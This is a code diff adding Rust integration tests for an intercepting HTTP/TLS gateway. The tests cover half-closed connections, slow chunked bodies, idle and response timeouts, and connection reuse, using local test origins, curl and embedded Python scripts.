+        // Late enough for the gate to have seen the half-close, and more than the kernel's buffers.
+        let reply = {
+            let body = body.clone();
+            move |_: &Received| Reply::new(200, body.clone()).after(Duration::from_millis(300))
+        };
+        let secure = OriginConfig { alpn: &["http/1.1"], ..OriginConfig::default() };
+        let secure = Origin::start_with(&world, secure, reply.clone());
+        let plain = Origin::start_with(&world, plain(&["http/1.1"]), reply);
+        let authority = world.authority().clone();
+        // Says nothing before the other side has ended.
+        let patient = TcpServer::start(&world, move |stream| {
+            let mut stream = authority.tls_server(Identity::Trusted, &["http/1.1"], stream);
+            let mut request = Vec::new();
+            stream.read_to_end(&mut request).unwrap();
+            assert!(request.ends_with(b"hello"));
+            stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n").unwrap();
+            stream.write_all(&body).unwrap();
+            stream.conn.send_close_notify();
+            stream.flush().unwrap();
+        });
+        let found = [
+            ("api.test:443", secure.address()),
+            ("api.test:80", plain.address()),
+            ("spliced.test:443", patient.address()),
+        ];
+        let policy = allowing(&world, &found) + "[[rules]]\nhost = \"spliced.test\"\nintercept = false\n";
+        let mut gate = world.gate(&policy).attach();
+        let [ours, theirs] =
+            [gate.ca_file().to_owned(), world.origin_ca_file()].map(|path| path.display().to_string());
+        for (mode, host, port, ca) in [
+            ("plain", "api.test", "80", &ours),
+            ("tls", "api.test", "443", &ours),
+            // Some clients end TCP without a word of TLS.
+            ("tcp", "api.test", "443", &ours),
+            ("tls", "spliced.test", "443", &theirs),
+        ] {
+            let found = python(gate.job(script(HALF_CLOSE, &[mode, host, port, ca])));
+            assert_eq!(found, json!(["HTTP/1.1 200 OK", LENGTH, hash]), "{mode} {host}:{port}");
+        }
+        assert_eq!((plain.requests().len(), secure.requests().len(), patient.connections()), (1, 2, 1));
+        let spliced = one_line(&mut gate, &[("kind", json!("flow"))]);
+        assert_eq!((&spliced["verdict"], &spliced["complete"]), (&json!("allowed"), &json!(true)));
+    }
+
+    #[test]
+    fn slow_answers_outlast_every_limit_on_silence() {
+        let world = World::new("slow");
+        let origin = Origin::start(&world, |request| match request.path.as_str() {
+            "/slow" => (0..6).fold(Reply::text("").chunked(), |reply, _| {
+                reply.then("piece ").pause(Duration::from_millis(600))
+            }),
+            "/stalls" => Reply::text("half").pause(Duration::from_secs(20)).then("never"),
+            _ => Reply::text("quick"),
+        });
+        let policy = allowing_api(&world, &origin) + "idle_timeout_ms = 1500\nresponse_timeout_ms = 1500\n";
+        let mut gate = world.gate(&policy).attach();
+        for version in VERSIONS {
+            let [quick, slow] = ["quick", "slow"].map(|path| format!("https://api.test/{path}"));
+            let outcome = curl(&gate, &[version, "-w", " %{num_connects} ", &quick, &slow, &quick]);
+            let slow = "piece ".repeat(6);
+            outcome.assert_success().assert_stdout(&format!("quick 1 {slow} 0 quick 0 "));
+            assert!(outcome.duration > Duration::from_millis(3600), "{outcome:?}");
+        }
+        // Silence for longer than that ends one answer, soon, and nothing else.
+        for version in VERSIONS {
+            let outcome = curl(&gate, &[version, "https://api.test/stalls"]);
+            assert!([18, 92].contains(&outcome.code()), "{outcome:?}");
+            assert!(outcome.duration < Duration::from_secs(8), "{outcome:?}");
+        }
+        curl(&gate, &["https://api.test/quick"]).assert_success();
+        let stalled = [("path", json!("/stalls")), ("complete", json!(false))];
+        gate.wait_for_log(|_| true);
+        until("both are in the log", || lines(&gate.log(), &stalled).len() == 2);
+        let log = gate.log();
+        let detail = lines(&log, &stalled)[0]["detail"].as_str().unwrap_or_default().to_owned();
+        assert!(detail.contains("nothing of the body came"), "{log:#?}");
+    }
+
+    /// A body that takes longer than a request head may, each way, on connections that are kept.
+    const SLOW_BOTH_WAYS: &str = r"
+import http.client, json, threading, time
+found = {}
+def ask(connection, method, path, body=None, chunked=False):
+    connection.request(method, path, body, encode_chunked=chunked, headers={'Transfer-Encoding': 'chunked'} if chunked else {})
+    answer = connection.getresponse()
+    return [answer.status, answer.read().decode()]
+def pieces():
+    for _ in range(12):
+        time.sleep(3)
+        yield b'piece '
+def run(name, slow):
+    connection = http.client.HTTPSConnection('api.test', timeout=60)
+    answers = [ask(connection, 'GET', '/quick')]
+    port = connection.sock.getsockname()[1]
+    answers += [slow(connection), ask(connection, 'GET', '/quick')]
+    found[name] = [answers, port == connection.sock.getsockname()[1]]
+threads = [threading.Thread(target=run, args=case) for case in (
+    ('down', lambda connection: ask(connection, 'GET', '/slow')),
+    ('up', lambda connection: ask(connection, 'PUT', '/up', pieces(), True)))]
+for thread in threads: thread.start()
+for thread in threads: thread.join()
+print(json.dumps(found))
+";
+
+    #[test]
+    fn slow_bodies_outlast_the_deadline_for_heads() {
+        let world = World::new("slow-both-ways");
+        let origin = Origin::start(&world, |request| match request.path.as_str() {
+            "/slow" => (0..12).fold(Reply::text("").chunked(), |reply, _| {
+                reply.then("piece ").pause(Duration::from_secs(3))
+            }),
+            "/up" => Reply::text(request.body_length.to_string()),
+            _ => Reply::text("quick"),
+        });
+        let gate = world.gate(&allowing_api(&world, &origin)).attach();
+        let found = python(gate.job(script(SLOW_BOTH_WAYS, &[])));
+        let with = |slow: &str| json!([[[200, "quick"], [200, slow], [200, "quick"]], true]);
+        assert_eq!(found, json!({ "down": with(&"piece ".repeat(12)), "up": with("72") }));
+        assert_eq!(origin.requests().len(), 6);
+    }
+}
